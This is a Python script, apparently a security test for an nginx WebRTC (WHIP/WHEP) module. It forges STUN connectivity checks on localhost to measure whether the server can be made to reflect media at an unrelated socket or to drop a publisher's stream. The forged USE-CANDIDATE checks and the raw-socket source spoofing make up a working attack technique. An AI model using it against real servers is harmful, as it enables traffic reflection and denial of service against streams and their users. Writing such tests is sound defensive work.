#!/usr/bin/python3
#
# Copyright (C) the ngx_http_webrtc_module authors
#
# Forged connectivity checks, by aiortc's sessions (python3-aiortc):
#
#     theft.py reflect <whep url>
#
#         A viewer nominates the address of a socket that has asked for
#         nothing, and keeps doing so.  Prints what that socket gets.
#
#     theft.py steal <whip url> <whep url>
#
#         A viewer nominates the address of a publisher (root: the source
#         address is forged).  A second viewer tells what is left of the stream.
#
# One line of JSON:
#
#     {"before", "after"       frames that the viewer has decoded, before and
#                              while the checks are sent
#      "sent", "got", "media"  bytes of checks, bytes that have come to the
#                              victim, and those that are neither STUN
#      "requests"}             binding requests among them

import asyncio
import json
import socket
import struct
import sys
import time

import aioice.ice
import aioice.stun as stun
from aiortc import (RTCPeerConnection, RTCSessionDescription)
from aiortc.mediastreams import MediaStreamError

from whep import Picture, request

SECONDS = 4


async def connect(url, publish=False):
    aioice.ice.get_host_addresses = lambda use_ipv4, use_ipv6: ['127.0.0.1']

    pc = RTCPeerConnection()
    pc.frames = 0

    async def consume(track):
        try:
            while True:
                await track.recv()
                pc.frames += 1
        except MediaStreamError:
            pass

    @pc.on('track')
    def on_track(track):
        asyncio.ensure_future(consume(track))

    if publish:
        pc.addTransceiver(Picture(), direction='sendonly')
    else:
        pc.addTransceiver('video', direction='recvonly')

    await pc.setLocalDescription(await pc.createOffer())

    status, headers, body = await asyncio.get_event_loop().run_in_executor(
        None, request, 'POST', url, {}, pc.localDescription.sdp.encode())

    if status != 201:
        raise Exception('POST: %d %s' % (status, body))

    await pc.setRemoteDescription(RTCSessionDescription(body, 'answer'))

    return pc


def ice(pc):
    return pc.getTransceivers()[0]._transport.transport._connection


def check(pc):
    """A check of this session, as a browser would send it."""

    c = ice(pc)

    m = stun.Message(message_method=stun.Method.BINDING,
                     message_class=stun.Class.REQUEST)
    m.attributes['USERNAME'] = '%s:%s' % (c.remote_username, c.local_username)
    m.attributes['PRIORITY'] = 0x6effffff
    m.attributes['ICE-CONTROLLING'] = 1
    m.attributes['USE-CANDIDATE'] = None
    m.add_message_integrity(c.remote_password.encode())

    return bytes(m)


async def until(what, seconds=30):
    end = time.monotonic() + seconds
    while not what() and time.monotonic() < end:
        await asyncio.sleep(0.05)


async def reflect(url):
    pc = await connect(url)
    await until(lambda: pc.frames >= 25)

    out = {'before': pc.frames, 'sent': 0, 'got': 0, 'media': 0,
           'requests': 0}

    server = ice(pc)._nominated[1].remote_addr

    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    victim.bind(('127.0.0.1', 0))
    victim.setblocking(False)
    victim.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)

    end = time.monotonic() + SECONDS

    while time.monotonic() < end:
        m = check(pc)
        victim.sendto(m, server)
        out['sent'] += len(m)

        await asyncio.sleep(0.25)

        while True:
            try:
                d = victim.recv(2048)
            except BlockingIOError:
                break

            out['got'] += len(d)

            if d[0] > 3:
                out['media'] += len(d)
            elif d[:2] == b'\0\1':
                out['requests'] += 1

    out['after'] = pc.frames - out['before']

    await pc.close()

    return out


async def steal(whip, whep):
    publisher = await connect(whip, publish=True)
    viewer = await connect(whep)
    thief = await connect(whep)

    await until(lambda: viewer.frames >= 15 and thief.frames >= 1)

    out = {'before': viewer.frames, 'sent': 0}

    pair = ice(publisher)._nominated[1]
    (_, victim), server = pair.local_addr, pair.remote_addr

    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)

    end = time.monotonic() + SECONDS

    while time.monotonic() < end:
        m = check(thief)
        raw.sendto(struct.pack('!HHHH', victim, server[1], 8 + len(m), 0) + m,
                   ('127.0.0.1', 0))
        out['sent'] += len(m)

        await asyncio.sleep(0.25)

    out['after'] = viewer.frames - out['before']

    for pc in thief, viewer, publisher:
        await pc.close()

    return out


if __name__ == '__main__':
    run = {'reflect': reflect, 'steal': steal}[sys.argv[1]]

    print(json.dumps(asyncio.get_event_loop().run_until_complete(
        asyncio.wait_for(run(*sys.argv[2:]), 90))), flush=True)
